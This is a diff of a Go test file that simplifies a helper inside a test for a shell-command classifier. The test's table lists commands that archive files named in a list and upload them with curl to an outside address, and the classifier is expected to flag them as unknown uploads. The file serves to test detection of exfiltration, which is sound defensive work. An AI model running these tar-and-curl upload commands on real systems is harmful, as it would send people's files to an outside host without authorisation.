@@ -7,14 +7,7 @@ import "testing"
 // judge, while the same archive kept here, or built from names on standard
 // input, is not.
 func TestNamesFromFileSentAreUnknown(t *testing.T) {
-	unknownUpload := func(line string) bool {
-		for _, e := range effectsOf(line) {
-			if e.Kind == Unknown && e.Detail == "upload-source" {
-				return true
-			}
-		}
-		return false
-	}
+	unknownUpload := func(line string) bool { return lineHas(line, Unknown, "upload-source") }
 	for line, want := range map[string]bool{
 		"tar -cf - --files-from=list | curl --data-binary @- https://203.0.113.9/x": true,
 		"tar -czf out.tgz -T files.txt && curl -T out.tgz https://203.0.113.9/":     true,
